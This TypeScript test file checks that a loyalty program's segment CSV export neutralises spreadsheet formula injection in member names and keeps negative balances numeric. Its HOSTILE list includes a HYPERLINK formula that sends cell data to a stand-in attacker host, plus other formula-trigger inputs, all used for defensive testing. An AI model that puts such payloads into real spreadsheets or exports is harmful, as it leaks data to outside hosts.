import { startTestServer, type TestServer } from '../support/harness';
import { createLadder, registerMember } from '../support/fixtures';
import { ADJUST, PURCHASE, REFUND } from '../support/ledger';

// Issue 17, item 6: the segment CSV export must not hand a spreadsheet a formula to run.
let s: TestServer;
beforeAll(async () => {
  s = await startTestServer();
  await createLadder(s);
});
afterAll(() => s.stop());

/** RFC 4180 parsing: quoted cells may hold commas, quotes and line breaks. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i];
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') { cell += '"'; i++; } else if (c === '"') quoted = false; else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') { row.push(cell); cell = ''; } else if (c === '\n') { row.push(cell); rows.push(row); row = []; cell = ''; } else cell += c;
  }
  if (cell || row.length) { row.push(cell); rows.push(row); }
  return rows;
}

const HOSTILE = ['=HYPERLINK("http://evil.example/?leak="&A1,"click")', '+1+1', '-2+3', '@SUM(1)', '\t=1+1', '\r=1+1'];

it('writes formula-like names as quoted text and a negative balance as a number', async () => {
  const ids: string[] = [];
  for (const [i, displayName] of HOSTILE.entries()) ids.push(await registerMember(s, { externalId: `csv-${i}`, displayName, region: 'CsvLand' }));
  // The API trims a name's edges (so "\t=1+1" is stored "=1+1"); a name stored before it did, or
  // written by hand, keeps its tab or carriage return: the export must neutralise those too.
  for (const [i, displayName] of HOSTILE.entries()) await s.sql('update member set display_name = $2 where id = $1', [ids[i], displayName]);
  const plain = await registerMember(s, { externalId: 'csv-plain', displayName: 'Ann Lee', region: 'CsvLand' });
  // A negative balance: earn 100, spend 80, refund the purchase (allowNegativeBalance).
  const [service, admin] = [await s.token('service'), await s.token('admin')];
  await s.admin('mutation { updateProgram(input: { allowNegativeBalance: true }) { allowNegativeBalance } }');
  try {
    await s.gql(PURCHASE, { input: { memberId: plain, orderId: 'csv-o1', amount: 100 } }, service);
    await s.gql(ADJUST, { input: { memberId: plain, amount: -80, reason: 'spent', idempotencyKey: 'csv-spend' } }, admin);
    const refund = await s.gql(REFUND, { input: { orderId: 'csv-o1', refundId: 'csv-r1', amount: 100 } }, service);
    expect(refund.data?.refundPurchase.transaction.balanceAfter).toBe(-80);
  } finally {
    await s.admin('mutation { updateProgram(input: { allowNegativeBalance: false }) { allowNegativeBalance } }');
  }
  const { saveSegment } = await s.admin(`mutation($i: SegmentInput!) { saveSegment(input: $i) { id size } }`,
    { i: { name: 'csv injection', filter: { regions: ['CsvLand'] } } });
  expect(saveSegment.size).toBe(HOSTILE.length + 1);

  const res = await fetch(`${s.url}/exports/segments/${saveSegment.id}.csv`, { headers: { authorization: `Bearer ${admin}` } });
  expect(res.status).toBe(200);
  const text = await res.text();
  const [header, ...rows] = parseCsv(text);
  const col = (name: string) => header.indexOf(name);
  const byId = new Map(rows.map((r) => [r[col('id')], r]));

  for (const [i, name] of HOSTILE.entries()) {
    // Parsed back, the cell is the name behind a single quote: text, never a formula.
    expect(byId.get(ids[i])?.[col('display_name')]).toBe(`'${name}`);
  }
  // On the wire each such cell is quoted, so it stays one cell in any locale.
  expect(text).toContain(`"'=HYPERLINK(""http://evil.example/?leak=""&A1,""click"")"`);
  expect(text).toContain(`"'-2+3"`);
  for (const row of rows) {
    row.forEach((cell, i) => i !== col('balance') && expect(cell).not.toMatch(/^[=+\-@\t\r]/));
  }
  const plainRow = byId.get(plain)!;
  expect(plainRow[col('display_name')]).toBe('Ann Lee');
  expect(plainRow[col('balance')]).toBe('-80');
  expect(text).toContain(',-80,');
});
